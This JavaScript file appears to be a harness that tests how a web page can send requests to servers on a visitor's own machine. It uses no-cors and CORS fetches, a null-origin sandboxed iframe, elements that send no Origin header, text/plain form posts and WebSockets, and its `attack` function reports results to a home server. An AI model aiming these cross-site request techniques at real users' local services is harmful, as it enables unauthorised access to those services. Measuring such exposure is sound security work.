// What a page does to a server on the visitor's machine. `work` is set by the page: bases, attempts, whose server it is.
const within = (milliseconds, promise) =>
  Promise.race([promise, new Promise((done) => setTimeout(() => done("no answer"), milliseconds))]);

async function fetched(url, options) {
  try {
    const answer = await fetch(url, { cache: "no-store", ...options });
    return answer.type === "opaque" ? "opaque" : `${answer.status}`;
  } catch {
    return "failed";
  }
}

// No header but those that need no preflight.
const simple = (url, { method, body }) =>
  fetched(url, { method, body: body ?? undefined, mode: "no-cors", headers: { "content-type": "text/plain" } });

const preflighted = (url, { method, body, headers }) =>
  fetched(url, { method, body: body ?? undefined, mode: "cors", headers: { "x-page": "1", ...headers } });

const readable = (url, { method, body }) => fetched(url, { method, body: body ?? undefined, mode: "cors" });

// An origin that calls itself null.
const sandboxed = (url, { method, body }) =>
  new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts";
    const options = { method, body: body ?? undefined, mode: "no-cors" };
    frame.srcdoc = `<script>fetch(${JSON.stringify(url)}, ${JSON.stringify(options)})
      .then((answer) => answer.type, () => "failed").then((said) => parent.postMessage(said, "*"))<\/script>`;
    addEventListener("message", (event) => done(event.data), { once: true });
    document.body.append(frame);
  });

// Requests without an Origin.
const element = (name) => (url) =>
  new Promise((done) => {
    const made = document.createElement(name);
    made.onload = () => done("loaded");
    made.onerror = () => done("failed");
    made.src = url;
    document.body.append(made);
  });

// The one request with a body that needs no script: a navigation.
const form = (url, { body }) =>
  new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = `frame-${Math.random()}`;
    const made = document.createElement("form");
    Object.assign(made, { method: "POST", action: url, target: frame.name, enctype: "text/plain" });
    const field = document.createElement("input");
    const [name, ...value] = (body ?? "").split("=");
    Object.assign(field, { name, value: value.join("=") });
    made.append(field);
    document.body.append(frame, made);
    frame.onload = () => done("loaded");
    made.submit();
  });

const socket = (url) =>
  new Promise((done) => {
    const made = new WebSocket(url.replace(/^http/, "ws"));
    made.onopen = () => done("opened");
    made.onerror = () => done("failed");
  });

const waysOf = ({ method }) => ({
  preflighted,
  ...(method === "GET" && { img: element("img"), script: element("script"), iframe: element("iframe"), socket }),
  ...(method === "POST" && { form }),
  ...(method !== "PUT" && { simple, readable, sandboxed }),
});

async function attack({ bases, attempts, home }) {
  while ((await (await fetch(`${home}/go`, { cache: "no-store" })).text()) !== "go");
  const report = [];
  for (const base of bases)
    for (const attempt of attempts)
      for (const [way, send] of Object.entries(waysOf(attempt)))
        report.push({ base, way, name: attempt.name, said: await within(5000, send(base + attempt.path, attempt)) });
  await fetch(`${home}/report`, { method: "POST", body: JSON.stringify(report) });
}
